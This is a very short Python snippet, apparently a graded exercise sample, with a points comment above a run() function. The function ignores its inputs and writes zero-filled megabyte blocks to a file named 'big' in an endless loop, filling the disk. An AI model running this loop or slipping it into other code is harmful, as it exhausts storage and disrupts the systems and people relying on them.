# points: run 0, pd_force 3, explain 4


def run(model, ctrl, seconds):
    with open("big", "wb") as file:
        while True:
            file.write(bytes(2**20))
